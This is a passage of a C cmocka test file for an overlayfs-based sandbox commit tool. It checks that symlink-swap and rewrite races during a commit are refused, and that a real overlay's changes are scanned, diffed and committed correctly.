        assert_int_equal(symlink(a->target, a->dir), 0);
    }
    if (a->touch) {
        int fd = open(a->touch, O_WRONLY | O_TRUNC | O_CLOEXEC);
        assert_true(fd >= 0);
        assert_int_equal(pdk_write_all(fd, "raced\n", 6), 0);
        close(fd);
    }
}

static void t_workspace_changes_during_commit(void **state)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    _cleanup_free_ char *outside = NULL;
    make_outside(w, &outside);
    mkd(w->lower, "d", 0755);
    put(w->lower, "d/f", "real\n", 0644);
    put(w->lower, "z", "z\n", 0644);
    int64_t baseline = baseline_now(w);
    mkd(w->upper, "d", 0755);
    put(w->upper, "d/f", "session\n", 0644);
    put(w->upper, "d/new", "session\n", 0644);
    put(w->upper, "z", "session\n", 0644);

    /* After the checks, before the first write, d becomes a symlink to outside. */
    _cleanup_free_ char *d = at(w->lower, "d");
    swap_arg arg = {.dir = d, .target = outside};
    pdk__commit_before_apply = swap_hook;
    pdk__commit_before_apply_arg = &arg;
    pdk_commit_request req = request(w, baseline);
    pdk_commit_result res;
    pdk_error err = {0};
    int r = pdk_commit_apply(&req, &res, &err);
    pdk__commit_before_apply = NULL;
    assert_int_equal(r, -1);
    print_message("# %s\n", err.message);
    assert_non_null(strstr(err.message, "\"d/f\""));
    pdk_commit_result_free(&res);
    assert_outside_untouched(outside);
    assert_false(has_temp_files(w->root));

    /* The file itself rewritten under the commit: stopped, the temporary removed. */
    rm_rf(d);
    mkd(w->lower, "d", 0755);
    put(w->lower, "d/f", "real\n", 0644);
    char *sel[] = {"z", NULL};
    _cleanup_free_ char *z = at(w->lower, "z");
    swap_arg arg2 = {.touch = z};
    pdk__commit_before_apply = swap_hook;
    pdk__commit_before_apply_arg = &arg2;
    req.select = sel;
    req.baseline_ns = baseline_now(w); /* d/f is rewritten but not selected; z is older */
    r = pdk_commit_apply(&req, &res, &err);
    pdk__commit_before_apply = NULL;
    assert_int_equal(r, -1);
    assert_non_null(strstr(err.message, "changed in the workspace during the commit"));
    pdk_commit_result_free(&res);
    assert_false(has_temp_files(w->root));
    char *content = NULL;
    assert_int_equal(pdk_read_file_at(AT_FDCWD, z, &content, NULL, 0), 0);
    assert_string_equal(content, "raced\n");
    free(content);
    ws_free(w);
}

/* ---- a real overlay ----------------------------------------------------------------------- */

/* Mount lower+upper at merged in a child (in a new user and mount namespace when userns,
 * as paddock itself does), run the shell commands there, snapshot the merged view into
 * expect. Returns 0, 1 when overlayfs cannot be mounted here, -1 on failure. */
static int in_overlay(ws *w, const char *work, const char *merged, const char *commands,
                      bool userns)
{
    pid_t pid = fork();
    assert_true(pid >= 0);
    if (pid == 0) {
        if (userns) {
            if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
                _exit(10);
            if (pdk_write_file_at(AT_FDCWD, "/proc/self/setgroups", "deny") < 0 ||
                pdk_write_file_at(AT_FDCWD, "/proc/self/uid_map", "0 0 1\n") < 0 ||
                pdk_write_file_at(AT_FDCWD, "/proc/self/gid_map", "0 0 1\n") < 0)
                _exit(10);
            if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
                _exit(10);
        }
        _cleanup_free_ char *opts =
            xasprintf("lowerdir=%s,upperdir=%s,workdir=%s,userxattr", w->lower, w->upper, work);
        if (mount("overlay", merged, "overlay", 0, opts) < 0)
            _exit(errno == EPERM || errno == ENODEV || errno == EINVAL ? 10 : 11);
        _cleanup_free_ char *cmd = xasprintf("set -e; cd '%s'; %s", merged, commands);
        int r = run(cmd);
        _cleanup_free_ char *snap = xasprintf("cp -a '%s' '%s'", merged, w->expect);
        int r2 = run(snap);
        if (!userns)
            umount2(merged, 0);
        _exit(r == 0 && r2 == 0 ? 0 : 12);
    }
    int status = 0;
    assert_int_equal(waitpid(pid, &status, 0), pid);
    if (!WIFEXITED(status))
        return -1;
    if (WEXITSTATUS(status) == 10)
        return 1;
    return WEXITSTATUS(status) == 0 ? 0 : -1;
}

static void real_overlay(bool userns)
{
    if (!need_root())
        skip();
    ws *w = ws_new();
    _cleanup_free_ char *work = at(w->root, "work");
    _cleanup_free_ char *merged = at(w->root, "merged");
    assert_int_equal(mkdir(work, 0755), 0);
    assert_int_equal(mkdir(merged, 0755), 0);
    put(w->lower, "a", "a\n", 0644);
    put(w->lower, "b", "b\n", 0644);
    put(w->lower, "c", "c\n", 0644);
    put(w->lower, "script", "#!/bin/sh\n", 0644);
    mkd(w->lower, "d", 0755);
    put(w->lower, "d/x", "x\n", 0644);
    put(w->lower, "d/y", "y\n", 0644);
    mkd(w->lower, "e", 0755);
    put(w->lower, "e/f", "f\n", 0644);
    put(w->lower, "unchanged", "u\n", 0644);
    put(w->lower, "h", "h\n", 0644);
    int64_t baseline = baseline_now(w);

    /* The sandbox at work: write, append, chmod, rm, rm -r and recreate, rename (also
     * renamed and edited), symlink, hard link, new nested directories. */
    const char *commands =
        "echo new > n; echo more >> a; chmod +x script; rm b; rm -r d; mkdir d; "
        "echo z > d/z; mv c c2; ln -s a ln; mkdir -p newdir/sub; echo deep > newdir/sub/file; "
        "mv e/f e/g; echo edited >> e/g; cat unchanged > /dev/null; chmod 0700 e; ln h h2";
    int r = in_overlay(w, work, merged, commands, userns);
    if (r == 1) {
        ws_free(w);
        skip_or_fail(userns ? "cannot mount overlayfs here (in a user namespace)"
                            : "cannot mount overlayfs here");
    }
    assert_int_equal(r, 0);

    pdk_change_list l;
    scan(w, NULL, &l);
    const char *expect[][2] = {
        {"a", "modified"},       {"b", "deleted"},
        {"c", "deleted"},        {"c2", "added"},
        {"d/x", "deleted"},      {"d/y", "deleted"},
        {"d/z", "added"},        {"e", "modified"},
        {"e/f", "deleted"},      {"e/g", "added"},
        {"h2", "added"},         {"ln", "added"},
        {"n", "added"},          {"newdir", "added"},
        {"newdir/sub", "added"}, {"newdir/sub/file", "added"},
        {"script", "modified"},
    };
    for (size_t i = 0; i < l.count; i++)
        print_message("#   %s %s%s%s\n", pdk_change_status_name(l.items[i].status), l.items[i].path,
                      l.items[i].has_origin ? " (origin)" : "",
                      l.items[i].origin_elsewhere ? " (elsewhere)" : "");
    assert_int_equal(l.count, PDK_ARRAY_SIZE(expect));
    for (size_t i = 0; i < l.count; i++) {
        assert_string_equal(l.items[i].path, expect[i][0]);
        assert_string_equal(pdk_change_status_name(l.items[i].status), expect[i][1]);
    }
    /* Renamed or linked inside the sandbox: not a conflict. (In a user namespace the
     * kernel writes empty origins, so the other rule of changes.c applies.) */
    _cleanup_free_ char *c2 = at(w->upper, "c2");
    char fh[256];
    print_message("# origin of c2: %zd bytes\n",
                  lgetxattr(c2, "user.overlay.origin", fh, sizeof(fh)));
    assert_true(get(&l, "c2")->has_origin);
    assert_true(get(&l, "c2")->origin_elsewhere);
    assert_true(get(&l, "e/g")->origin_elsewhere);
    assert_true(get(&l, "h2")->origin_elsewhere);
    pdk_change_list_free(&l);

    /* git apply of the diff reproduces the merged view's files. */
    if (have_git()) {
        pdk_change_list l2;
        scan(w, NULL, &l2);
        pdk_buf patch = {0};
        pdk_error err = {0};
        pdk_diffrender_options raw = {.context = -1, .raw = true};
        assert_int_equal(pdk_diffrender_patch(&l2, w->lower_fd, w->upper_fd, &raw, &patch, &err),
                         0);
        pdk_change_list_free(&l2);
        put(w->root, "overlay.patch", patch.data, 0644);
        pdk_buf_free(&patch);
        _cleanup_free_ char *copy = at(w->root, "applied");
        _cleanup_free_ char *apply =
            xasprintf("cp -a '%s' '%s' && cd '%s' && GIT_CEILING_DIRECTORIES=/tmp git apply "
                      "'%s/overlay.patch'",
                      w->lower, copy, copy, w->root);
        assert_int_equal(run(apply), 0);
        _cleanup_free_ char *got = tree(copy, true);
        _cleanup_free_ char *want = tree(w->expect, true);
        assert_string_equal(got, want);
    }

    /* Commit everything: the real directory is what the merged view was. */
    pdk_commit_request req = request(w, baseline);
    pdk_commit_result res;
    pdk_error err = {0};
    if (pdk_commit_apply(&req, &res, &err) < 0)
        fail_msg("commit: %s", err.message);
    pdk_commit_result_free(&res);
    assert_trees_equal(w->lower, w->expect);
    assert_int_equal(scan_count(w), 0);

    /* The cleaned upper layer is still a valid one: mounted again, it shows the same. */
    close(w->upper_fd);
    w->upper_fd = -1;
    _cleanup_free_ char *want = tree(w->expect, false);
    _cleanup_free_ char *first = at(w->root, "first-expect");
    assert_int_equal(rename(w->expect, first), 0);
    assert_int_equal(in_overlay(w, work, merged, "true", userns), 0);
    _cleanup_free_ char *again = tree(w->expect, false);
    assert_string_equal(again, want);
    ws_free(w);
}

static void t_real_overlay(void **state)
{
    real_overlay(false);
}

static void t_real_overlay_in_userns(void **state)
{
    real_overlay(true);
}

static int teardown(void **state)
{
    pdk__commit_before_apply = NULL;
    ws_free(current_ws);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_teardown(t_commit_everything, teardown),
        cmocka_unit_test_teardown(t_conflicts, teardown),
        cmocka_unit_test_teardown(t_committed_paths, teardown),
        cmocka_unit_test_teardown(t_protected_and_special, teardown),
        cmocka_unit_test_teardown(t_protected_at_every_depth, teardown),
        cmocka_unit_test_teardown(t_hooks_path_of_each_repository, teardown),
        cmocka_unit_test_teardown(t_temporaries_out_of_the_tree, teardown),
        cmocka_unit_test_teardown(t_recover_a_killed_commit, teardown),
        cmocka_unit_test_teardown(t_partial_commit, teardown),
        cmocka_unit_test_teardown(t_dry_run, teardown),
        cmocka_unit_test_teardown(t_symlinks_planted_in_upper, teardown),
        cmocka_unit_test_teardown(t_workspace_symlink_before_commit, teardown),
        cmocka_unit_test_teardown(t_workspace_changes_during_commit, teardown),
        cmocka_unit_test_teardown(t_real_overlay, teardown),
        cmocka_unit_test_teardown(t_real_overlay_in_userns, teardown),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
